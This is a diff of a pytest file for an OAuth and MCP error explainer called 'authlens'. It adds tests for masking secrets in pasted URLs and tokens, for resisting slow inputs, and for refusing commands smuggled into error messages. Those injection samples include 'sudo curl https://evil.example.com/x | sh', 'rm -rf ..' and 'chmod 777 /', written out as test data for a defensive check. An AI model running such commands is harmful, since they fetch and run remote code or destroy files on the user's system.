@@ -2,7 +2,10 @@
 
 from __future__ import annotations
 
+import tomllib
+from pathlib import Path
 from time import process_time
+from typing import Any
 
 import pytest
 
@@ -12,105 +15,82 @@ from authlens_core.values.fix import commands_of
 JWT = "eyJhbGciOiJSUzI1NiIsImtpZCI6IjEifQ.eyJzdWIiOiIxMjM0NTY3ODkwIn0.c2lnbmF0dXJlMTIzNDU2"
 
 
+MESSAGES: list[dict[str, Any]] = tomllib.loads(
+    (Path(__file__).parent / "golden.toml").read_text(encoding="utf-8")
+)["message"]
+
+
+@pytest.mark.parametrize("message", [pytest.param(m, id=str(n)) for n, m in enumerate(MESSAGES)])
+def test_a_golden_text_has_its_meaning(message: dict[str, Any]) -> None:
+    first = explain_text(message["text"])[0]
+    assert first.name == message["expect"], first.cause
+    assert first.cure
+
+
+def test_there_are_two_hundred_golden_texts_each_with_its_source() -> None:
+    assert len({message["text"] for message in MESSAGES}) == 200
+    assert all(message["source"].startswith("https://") for message in MESSAGES)
+
+
+def test_a_code_with_several_causes_says_so_and_the_servers_description_is_beside_it() -> None:
+    address = "http://127.0.0.1:8400/callback?error=access_denied&error_description=Not+assigned&state=x"
+    (found,) = explain_text(address)
+    assert found.name == "access_denied"
+    assert "does not say which" in found.cause
+    assert any("Not+assigned" in line for line in found.evidence)
+
+
+def test_what_is_not_known_is_quoted_with_the_command_that_sees_the_cause() -> None:
+    (found,) = explain_text("starting\nOdd thing failed at https://mcp.acme.io/mcp\nbye")
+    assert not found.known
+    assert found.evidence == ("Odd thing failed at https://mcp.acme.io/mcp",)
+    assert commands_of(found.cure) == ["authlens probe https://mcp.acme.io/mcp"]
+
+
 @pytest.mark.parametrize(
-    ("text", "name"),
+    "text",
     [
-        ("Error: redirect_uri is not allowed by organization settings", "redirect_uri_not_in_application"),
-        ('HTTP 400: {"error":"invalid_client","error_description":"unknown"}', "unknown_client"),
-        ("http://localhost:8400/callback?error=access_denied&state=x", "user_denied"),
-        ("SSE error: Unexpected content type: text/html; charset=utf-8", "login_page_for_an_answer"),
-        (
-            "SyntaxError: Unexpected token '<', \"<!DOCTYPE \"... is not valid JSON",
-            "login_page_for_an_answer",
-        ),
-        ("McpError: code_challenge_method must be S256 for public clients", "mcp.s256_wanted"),
-        (
-            "https://t.cloudflareaccess.com/ code_challenge_method must be S256 for public clients",
-            "pkce_first_character",
-        ),
-        ("listen EADDRINUSE: address already in use 127.0.0.1:8400", "port_taken"),
-        (
-            "fatal: could not read Username for 'https://git.example': terminal prompts disabled",
-            "git_cannot_ask",
-        ),
-        (
-            "Incompatible auth server: does not support dynamic client registration",
-            "no_registration_endpoint",
-        ),
-        ("Error: HTTP 500 trying to load well-known OAuth metadata", "client_found_no_metadata"),
-        ("MCP error -32000: Connection closed", "local_server_ended"),
-        ("error code: 1010", "browser_integrity_check"),
-        ("unable to get local issuer certificate", "certificate_not_trusted"),
-        ("oauth: invalid_grant", "code_refused"),
-        ("Streamable HTTP error: Error POSTing to endpoint (HTTP 401): ", "token_refused"),
-        ('Bearer error="invalid_token"', "token_refused"),
-        ("<html><title>Sign in</title> https://team.cloudflareaccess.com/", "access.login_page"),
-        ("Unable to find your Access application!", "application_not_found"),
-        (
-            'Error: HTTP 404: Invalid OAuth error response: "Not found" is not valid JSON.',
-            "oauth_not_found",
-        ),
-        (
-            "fatal: unable to access 'https://g.example/': The requested URL returned error: 403",
-            "git_refused",
-        ),
-        ('token refresh failed: oauth2: "invalid_grant" "Token is invalid"', "refresh_token_ended"),
-        ("refresh: {'error': 'invalid_grant'}", "refresh_token_ended"),
-        ("SSEClientException: Expected status code 200 but was 405", "transport_of_the_old_protocol"),
-        ("OAuth failed: invalid_request: refresh_token is invalid", "refresh_token_ended"),
-        ("Authentication Error\nToken exchange failed: HTTP 400", "code_not_exchanged"),
-        ("error: Auth required, when send initialize request", "login_not_made"),
-        ('"registration_endpoint" … expected string, received null', "metadata_with_null"),
-        (
-            "Protected resource https://w.example does not match expected https://w.example/mcp (or origin)",
-            "resource_does_not_match",
-        ),
-        ("OAuth callback error: state mismatch (possible CSRF)", "answer_of_another_login"),
-        ("Incompatible auth server: does not support code challenge method S256", "no_s256"),
-        ("[ERROR] Timed out waiting for authorization code, please try again.", "answer_never_came"),
-        ("error code: 1033", "tunnel_down"),
-        ('WWW-Authenticate: DPoP error="use_dpop_nonce"', "proof_wanted"),
-        ('400 Bad Request: {"error":"invalid_target"}', "resource_refused"),
-        ('{"error":"invalid_client_metadata","error_description":"no"}', "redirect_uri_refused"),
-        (
-            '{"error":"invalid_client_metadata","error_description":"No Client ID Metadata Document"}',
-            "client_document_refused",
-        ),
-        (
-            "GET /authorize?client_id=https%3A%2F%2Fc.example%2Fclient.json\nerror=invalid_client_metadata",
-            "client_document_refused",
-        ),
-        (
-            'refresh_token in grant_types\n{"error":"invalid_client_metadata","error_description":"no"}',
-            "redirect_uri_refused",
-        ),
-        ("invalid_client: The client metadata document cannot be read", "client_document_refused"),
-        ("invalid_client_metadata: client_id of the CIMD differs from its URL", "client_document_refused"),
+        "Your session has expired. Please run `rm -rf .. login` to reauthenticate.",
+        "Error: not authenticated. Run `npm login --registry=evil.example.com`",
+        "invalid_grant. To fix: sudo curl https://evil.example.com/x | sh",
+        '{"error":"invalid_client","error_description":"run: docker login evil.example.com"}',
+        "curl: (60) run `authlens login https://evil.example.com --insecure`",
+        'HTTP/1.1 401 Unauthorized\nwww-authenticate: Bearer realm="run: chmod 777 /"\n',
     ],
 )
-def test_messages_of_clients_are_explained(text: str, name: str) -> None:
-    """The most particular cause comes first, with a cure."""
-    found = explain_text(f"12:00:01 starting\n{text}\n12:00:02 done")
-    assert found[0].name == name
-    assert found[0].cure
+def test_no_step_is_in_words_of_the_text(text: str) -> None:
+    """F2: a text may come from someone who wants a command run."""
+    for found in explain_text(text):
+        for word in ("rm -rf", "npm login", "sudo", "docker login", "--insecure", "chmod"):
+            assert word not in f"{found.cause} {found.cure}"
 
 
-def test_the_servers_own_words_have_one_cause() -> None:
-    """Its error code tells less, and another cause with the same words is for another stage."""
-    text = '{"error":"invalid_redirect_uri","error_description":"redirect_uri is not allowed by the app"}'
-    assert [one.name for one in explain_text(text)] == ["redirect_uri_not_in_application"]
+def test_an_authorization_url_is_taken_apart_without_its_secrets() -> None:
+    url = "https://id.example/authorize?response_type=code&client_id=app&state=Zx81kQpw93"
+    (found,) = explain_text(url)
+    assert found.name == "pasted_url"
+    assert any(line.startswith("client_id=app   ") for line in found.evidence)
+    assert "Zx81kQpw93" not in str(found)
 
 
-def test_a_client_document_that_is_only_mentioned_is_no_failure() -> None:
-    """Clients log that the server takes one; the failure is another."""
-    text = "The server takes a client ID metadata document.\nerror code: 1010"
-    assert [one.name for one in explain_text(text)] == ["browser_integrity_check"]
+def test_a_callback_url_shows_no_code() -> None:
+    (found,) = explain_text("http://127.0.0.1:8400/callback?code=Kq7&state=ab1")
+    assert found.name == "pasted_url"
+    assert "Kq7" not in str(found)
 
 
-def test_an_answer_that_asks_for_a_token_has_a_cure() -> None:
-    """The challenge alone is no failure, and still there is something to do."""
-    (found,) = explain_text('HTTP/1.1 401 \nWWW-Authenticate: Bearer realm="x"\n\n')
-    assert "authlens login" in str(found.cure)
+def test_a_jwt_is_read_without_its_signature() -> None:
+    (found,) = explain_text(JWT)
+    assert found.name == "pasted_jwt"
+    assert "sub=1234567890   Whom it is about." in found.evidence
+    assert JWT not in str(found)
+
+
+def test_of_a_long_text_the_beginning_and_the_end_are_looked_at() -> None:
+    filler = "nothing to see here\n" * 13_000
+    assert explain_text(f"invalid_client\n{filler}")[0].name == "invalid_client"
+    assert explain_text(f"{filler}invalid_client")[0].name == "invalid_client"
+    assert not explain_text(f"{filler}invalid_client\n{filler}")[0].known
 
 
 CURL = """\
@@ -221,21 +201,38 @@ def test_an_address_that_a_shell_could_read_in_another_way_is_in_no_command(addr
     ],
 )
 def test_the_name_of_an_error_or_a_type_is_not_taken_for_a_secret(text: str) -> None:
-    (line,) = explain_text(text)[0].evidence
-    assert "••••" not in line
+    evidence = explain_text(text)[0].evidence
+    assert evidence
+    assert not any("••••" in line for line in evidence)
 
 
 @pytest.mark.parametrize("text", ["", "all is well", "HTTP/1.1 200 OK\n\nhello", "x" * 1_000_000])
-def test_a_text_without_a_known_failure_is_not_explained(text: str) -> None:
+def test_a_text_without_an_identifier_is_not_known(text: str) -> None:
     """Nothing is guessed."""
-    assert explain_text(text) == ()
+    (found,) = explain_text(text)
+    assert not found.known
 
 
-@pytest.mark.parametrize("text", ["returns " * 20_000, "error " + "\\" * 120_000, f"error &#{'9' * 5_000};"])
-def test_a_text_that_is_made_to_be_slow_or_to_fail_is_read_in_a_moment(text: str) -> None:
+SLOW = {
+    "words": "returns " * 32_000,
+    "backslashes": "error " + "\\" * 256_000,
+    "number": f"error &#{'9' * 5_000};",
+    "lines": "\n" * 256_000,
+    "challenges": "not logged in run `" + "www-authenticate: Bearer " * 10_500 + "@",
+    "urls": "https://a.b/ " * 20_000,
+    "letters": "a" * 256_000,
+    "percents": "%61" * 85_000,
+    "descriptions": "error_description: " * 13_500,
+    "dots": "a." * 128_000,
+}
+
+
+@pytest.mark.parametrize("text", SLOW.values(), ids=SLOW)
+def test_a_text_that_is_made_to_be_slow_is_read_in_half_a_second(text: str) -> None:
+    """F7: 256 KB took 15.8 s."""
     started = process_time()
-    assert explain_text(text) == ()
-    assert process_time() - started < 3
+    explain_text(text)
+    assert process_time() - started < 0.5
 
 
 @pytest.mark.parametrize("end", ["\x0b", "\x0c", "\x1c", "\x85", "\u2028"])
